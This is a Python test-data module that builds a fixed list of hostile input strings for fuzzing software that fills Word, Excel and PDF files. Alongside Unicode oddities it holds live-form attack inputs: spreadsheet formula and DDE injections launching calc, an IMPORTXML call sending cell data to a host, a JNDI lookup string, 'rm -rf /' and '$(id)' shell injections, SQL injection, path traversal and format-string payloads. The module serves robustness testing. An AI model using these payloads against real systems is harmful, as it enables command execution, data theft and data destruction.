"""Strings that break programs which put typed text into Word, Excel and PDF files.

Made by hand and by combination, not by chance: the same strings come in every run, and each has
a group that says what it tries. All are written in escapes where the eye could not tell them.
"""

from collections.abc import Iterator
from typing import NamedTuple


class Hostile(NamedTuple):
    """One string and the group of those that try the same."""

    group: str
    text: str


_MARKUP = (
    "{{", "}}", "{{ x }}", "{{ name|upper }}", "{{x}}{% y %}", "{% if a %}", "{%- endfor -%}",
    "{# 注释 #}", "${x}", "${jndi:ldap://x/a}", "#{x}", "%{x}", "{0}", "{basic.city}", "{basic/city}",
    "{money.award}", "{}", "{{{{", "<%= x %>", "<?php echo 1 ?>", "&<", "&<>\"'", "<", ">", "&", "&&",
    "&amp;", "&lt;b&gt;", "&#65;", "&#x0;", "&nbsp;", "]]>", "<![CDATA[甲]]>", "<!-- 甲 -->", "<!--", "-->",
    "<w:p>", "</w:t></w:r></w:p>", "<w:br/>", "<b>粗</b>", "<script>alert(1)</script>", "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>&b;", "_x0041_", "_x000D_", "_x005F_", "_x005F_x0041_", "_x0000_", "_xD800_",
    "_x4E2D_字", "_X0041_", "&L&\"宋体\"&36甲", "&P", "\\", "\\n", "\\r\\n", "\\\\", "\\u4e2d", "\\x00",
    "C:\\n甲", "*粗*", "__粗__", "# 标题", "[甲](b)", "`code`", "~~甲~~", "\\textbf{甲}", "$x^2$", "\\\"甲\\\"",
    "<r>甲</r>", "<r><t>甲</t></r>", "<si>", "_x0041_x0042_",
    "TC \"甲\" \\l 1", "{ TOC \\o }", "«甲»", "^p", "^t", "@{x}", "<<甲>>", "[[甲]]",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=", "==1", "=A1", "=SUM(A1:A9)", "+86", "+1", "-5", "-", "--1", "-1+1", "@SUM", "@SUM(A1)", "@", "@@",
    "=HYPERLINK(\"http://example.org\",\"甲\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "'", "''", "\"=1+1\"", "{=1+1}",
    "{=SUM(A1)}", "=1+1;", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "＝1＋1", "﹦1", "http://example.org", "https://example.org/?a=1&b=2#c", "mailto:a@example.org", "ftp://a",
    "internal:Sheet1!A1", "external:c:\\a.xlsx", "file:///etc/passwd", "javascript:alert(1)",
)  # fmt: skip
_NUMBERS = (
    "123456789012345678", "91210000123456789012", "0.1234567890123456789", "007", "00", "0", "-0", "+0", "0.0", "1.0",
    "1.50", ".5", "5.", "1E5", "1e5", "1e-5", "1E400", "-1e999", "2E3甲", "0x1F", "0b1", "1_000", "1,000", "1,00",
    "1，000", "1 000", "1.000.000", "2024-1-1", "2024/1/1", "2024.1.1", "2024年1月1日", "1-2", "1/2", "3/4/5", "1:2",
    "12:00", "9:30:00", "45444", "10%", "百分之十", "$1", "¥1", "￥1,200元", "(5)", "(1)", "（一）", "一、", "1.", "1、",
    "TRUE", "FALSE", "true", "是", "否", "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "MARCH1", "SEPT2", "1e",
    "三十万元", "约30", "３０", "①", "Ⅳ", "½", "²", "٣٤", "๓", "१२", "〇", "○", "零", "二〇二四年", "亿", "万元",
    "1e308", "9" * 400, "0" * 60, "3" + "." + "1" * 60, "NaN", "nan", "Infinity", "-inf", "1;2", "1|2",
)  # fmt: skip
_WORDS = (
    "null", "NULL", "None", "nil", "undefined", "N/A", "-", "无", "/", "合计", "小计", "总计", "序号", "项目名称",
    "合计:3", "注:甲", "附件2", "附件3", "填报人:", "一、工作目标", "第一章", "示例", "例:甲", "目  录", "表1 甲", "××", "〓",
    "□", "■", "?", "？", "�", "___", "……", "。", "，", "、", "甲", "a", "A b", "无名氏项目", "同上", "〃", "\"",
)  # fmt: skip
_CODE = (
    "../../x", "..\\..\\x", "..", ".", "/", "//", "/etc/passwd", "C:\\", "C:\\Windows\\x", "\\\\srv\\a", "~", "~/a", "$HOME",
    "%TEMP%", "CON", "con", "NUL", "nul.txt", "aux.txt", "PRN", "COM1", "LPT1.docx", "CONIN$", "a:b", "a/b", "a\\b",
    "a*b", "a?b", "a|b", "a<b>c", "a.", "a ", " .a", ".shenbao", "a.docx", "a;rm -rf /", "`id`", "$(id)", "a&&b", "| cat",
    "' OR '1'='1", "'; DROP TABLE projects; --", "\"; --", "1; SELECT 1", "/* 甲 */", "%s", "%n", "%d%s%x", "%s%s%s%s",
    "%1$s", "%%", "%", "%00", "%2e%2e%2f", "{\"a\": [1, null]}", "[]", "{}x", "\"a\"", "[1,2]", "(?:a+)+$", "[a-z]*", "^$",
    ".*", "(", ")", "[", "*", "\\d+", "a{1,3}", "(a", "a,b;c", "\"a\",\"b\"", "a\tb;c", "--help", "-rf", "--", "a=b",
    "a/b=c", "#", "#!/bin/sh", "//注释", "!important", "@import url(x)", "<<EOF", "\\0", "data:text/html,a",
)  # fmt: skip

_SIGNS = {
    "blank": {
        "space": " ", "two spaces": "  ", "NBSP": "\u00a0", "ideographic": "\u3000", "ogham": "\u1680",
        "en quad": "\u2000", "em": "\u2003", "figure": "\u2007", "thin": "\u2009", "hair": "\u200a", "narrow": "\u202f",
        "math": "\u205f", "tab": "\t", "LF": "\n", "CR": "\r", "CRLF": "\r\n", "two LF": "\n\n", "VT": "\x0b", "FF": "\x0c",
        "NEL": "\x85", "LS": "\u2028", "PS": "\u2029",
    },
    "unseen": {
        "ZWSP": "\u200b", "ZWNJ": "\u200c", "ZWJ": "\u200d", "LRM": "\u200e", "RLM": "\u200f", "ALM": "\u061c",
        "LRE": "\u202a", "RLE": "\u202b", "PDF": "\u202c", "LRO": "\u202d", "RLO": "\u202e", "LRI": "\u2066",
        "RLI": "\u2067", "FSI": "\u2068", "PDI": "\u2069", "BOM": "\ufeff", "soft hyphen": "\u00ad", "word joiner": "\u2060",
        "invisible times": "\u2062", "Mongolian vowel": "\u180e", "Hangul filler": "\u3164", "half filler": "\uffa0",
        "choseong filler": "\u115f", "CGJ": "\u034f", "Khmer inherent": "\u17b4", "annotation": "\ufff9", "tag": "\U000e0041",
        "object": "\ufffc", "musical": "\U0001d173", "shorthand": "\U0001bca0", "braille blank": "\u2800",
    },
    "control": {f"U+{number:04X}": chr(number) for number in (
        *range(1, 9), *range(14, 32), 0, 0x7F, 0x80, 0x81, 0x84, 0x86, 0x8D, 0x90, 0x9B, 0x9C, 0x9F,
    )},
    "noncharacter": {f"U+{number:04X}": chr(number) for number in (
        0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x2FFFE, 0xFFFFF, 0x10FFFE, 0x10FFFF,
    )},
    "unassigned": {f"U+{number:04X}": chr(number) for number in (0x378, 0x2FE0, 0x9FFE, 0x323B0, 0x40000, 0xE0FFF)},
    "surrogate": {
        "high": "\ud800", "low": "\udc00", "last high": "\udbff", "escaped byte": "\udce4",
        "both": "\ud83d\ude00", "reversed": "\ude00\ud83d", "high twice": "\ud83d\ud83d",
    },
    "private use": {f"U+{number:04X}": chr(number) for number in (
        0xE000, 0xE5E5, 0xE7C7, 0xE7F3, 0xE864, 0xF000, 0xF0B7, 0xF8FF, 0xF0000, 0xFFFFD, 0x100000, 0x10FFFD,
    )},
    "emoji": {
        "smile": "😀", "thumb": "👍", "skin": "👍🏽", "family": "👨\u200d👩\u200d👧\u200d👦", "flag": "🇨🇳", "rainbow": "🏳\ufe0f\u200d🌈",
        "keycap": "1\ufe0f\u20e3", "heart": "❤\ufe0f", "text heart": "❤\ufe0e", "check": "✅", "star": "⭐", "phone": "☎\ufe0f",
        "copyright": "©\ufe0f", "wheelchair": "\u267f", "new": "🆕", "tag flag": "🏴\U000e0067\U000e0062\U000e007f",
    },
    "variation": {
        "VS1": "\ufe00", "VS15": "\ufe0e", "VS16": "\ufe0f", "葛 IVS": "葛\U000e0100", "辻 IVS": "辻\U000e0101",
        "last IVS": "一\U000e01ef", "Mongolian": "\u180b", "︀ twice": "\ufe00\ufe00", "SVS": "\u4fae\ufe00",
    },
    "combining": {
        "acute": "e\u0301", "precomposed": "\u00e9", "pinyin": "u\u0308\u030c", "alone": "\u0301", "stacked": "Z" + "\u0300\u0301\u0304\u0307" * 5,
        "enclosed": "甲\u20dd", "kana voiced": "か\u3099", "voiced": "が", "Hangul jamo": "\u1100\u1161\u11a8", "syllable": "각",
        "low line": "甲\u0332", "Vietnamese": "ế", "ideographic tone": "甲\u302a", "half mark": "a\ufe20", "order": "a\u0323\u0307",
        "other order": "a\u0307\u0323", "nukta": "क़", "keycap alone": "\u20e3",
    },
    "rare hanzi": {
        "extension A": "㐂䶮", "extension B": "𠂇𠮷𡈽", "extension B rare": "\U00020001\U0002a6d6", "extension C": "\U0002a700\U0002b734",
        "extension D": "\U0002b740\U0002b81d", "extension E": "\U0002b820𬭎𬱖", "extension F": "\U0002ceb0\U0002ebe0",
        "extension G": "\U00030000\U0003134a", "extension H": "\U00031350\U000323af", "extension I": "\U0002ebf0",
        "names": "喆镕堃㛃镕曌", "compatibility": "\uf900\uf9d0\ufa0c\ufa1f", "compatibility pair": "豈\uf900", "supplement": "\U0002f800\U0002fa1d",
        "radicals": "⺀⻳⼀⿕", "radical pair": "一⼀", "description": "⿰氵䶮", "strokes": "㇀㇣", "bopomofo": "ㄅㆺ", "new": "鿿鿯",
        "measures": "㎡㎏㏄㎜", "circled": "㊣㈱⑳㉑㊿", "geta": "〓", "iteration": "々〆〇ヶ", "Kangxi": "⼈⼤",
    },
    "width": {
        "full Latin": "Ａｂ１２", "half kana": "ｱｲﾊﾟ", "full signs": "！＂＃＄％＆", "full and half": "（a(（", "half Hangul": "ﾡￂ",
        "ligatures": "ﬁﬂﬀﬃﬄ", "long s": "ſﬆ", "roman": "ⅠⅡⅢⅳⅫ", "fractions": "½⅓¼", "super": "²³¹⁴ₙ", "vertical": "︵︿﹁﹂",
        "small": "﹙﹚﹠﹡", "letterlike": "℡№℃Å", "mathematical": "𝐀𝑏𝟏", "enclosed": "🅰🄰", "squared": "㍿㌀㋿",
    },
    "mark": {
        "brackets": "()（）[]［］【】〔〕〖〗", "angles": "<>〈〉《》«»‹›⟨⟩", "braces": "{}｛｝「」『』﹛﹜", "nested": "（（（〔（", "reversed": "））】",
        "dashes": "-‐‑‒–—―−─－~～〜", "double dash": "——", "hyphen end": "甲-", "dots": "·•・‧∙⋅…⋯", "quotes": "\"'“”‘’„‟〝〞＂＇`´",
        "curly twice": "““", "primes": "′″‴", "stops": "。．.，,、､;；:：!！?？", "stops alone": "。。。", "currency": "¥￥€$￡₩₿", "signs": "×÷±≤≥≠≈∞√∑",
        "arrows": "→←⇒↔", "boxes": "□■☑☒✓✔", "section": "§¶†‡‰", "slashes": "/\\／＼∕⁄|¦｜", "underscores": "_＿‗", "and": "&＆﹠",
    },
    "other script": {
        "Arabic": "مرحبا", "Arabic and digits": "سعر 123", "Hebrew": "שלום", "Hebrew and Latin": "abc שלום xyz", "presentation": "ﷲﻼ",
        "Syriac": "ܐܒܓ", "Thai": "สวัสดี", "Devanagari": "नमस्ते", "Tamil": "தமிழ்", "Tibetan": "བོད་", "Mongolian": "ᠮᠣᠩᠭᠣᠯ",
        "Uyghur": "ئۇيغۇر", "Yi": "ꆈꌠ", "Russian": "Проект", "Greek": "Ωμέγα", "Korean": "프로젝트", "Japanese": "プロジェクト", "Turkish": "İıŞş",
        "German": "ßẞ", "Vietnamese": "Đặng", "Georgian": "საქ", "Cherokee": "ᏣᎳᎩ", "Linear B": "𐀀", "cuneiform": "𒀀", "N'Ko": "ߒߞߏ",
    },
    "long": {
        "word": "x" * 500, "digits and hyphens": "0123456789-" * 40, "address": "http://example.org/" + "a/" * 150, "hanzi": "数" * 300,
        "blank between": "a " * 150, "closers": "）" * 60, "openers": "（" * 60, "lines": "行\n" * 60, "extension B": "𠮷" * 100,
    },
}  # fmt: skip
# A sign alone, inside a name and at its ends: each place has faults of its own.
_WITHIN = (
    "blank",
    "unseen",
    "control",
    "noncharacter",
    "surrogate",
    "private use",
    "emoji",
    "variation",
)
_BLANKS_ONLY = (
    "",
    " ",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\u3000",
    "\u00a0",
    "\u3000 \u2003",
    "\u200b",
    "\ufeff\u200b",
    "\u200e\u200f",
)
_MIXED = (
    "甲\u202e乙丙\u202c丁", "\u202e=1+1", "\u200f(甲)", "a\u0301\u200d\u0301", "\ufeff=1+1", "\u200b\u200b\u200b=1", "甲\x00乙\x01丙\x02",
    "=1+1\x00", "\x1b[31m红\x1b[0m", "甲\r乙\n丙\r\n丁", "\r", "\n\r\n\r", "&\u200bamp;", "<\u00ad>", "{\u200b{x}}", "_x00\u200b41_", "𠮷{{x}}&<=1",
    "\ud83d甲\ude00", "😀=1+1", "１＋１＝２", "甲\u3000乙 丙\u00a0丁", "a\u2028=1+1", "'\u2029'", "㎡\ue5e5\ue7c7", "(\u2066שלום\u2069)", "الف=1+1", "%s\x00%n",
)  # fmt: skip


def _all() -> Iterator[Hostile]:
    for group, texts in (
        ("markup", _MARKUP), ("formula", _FORMULAS), ("number", _NUMBERS), ("word", _WORDS),
        ("code", _CODE), ("blanks only", _BLANKS_ONLY), ("mixed", _MIXED),
    ):  # fmt: skip
        yield from (Hostile(group, text) for text in texts)
    for group, signs in _SIGNS.items():
        for sign in signs.values():
            yield Hostile(group, f"甲{sign}乙" if group in _WITHIN else sign)
    for group in ("blank", "unseen", "emoji"):
        for sign in _SIGNS[group].values():
            yield Hostile(f"{group} outside", f"{sign}智改{sign}")
    yield Hostile("long", "数字化转型" * 1000)


HOSTILE = tuple({one.text: one for one in _all()}.values())
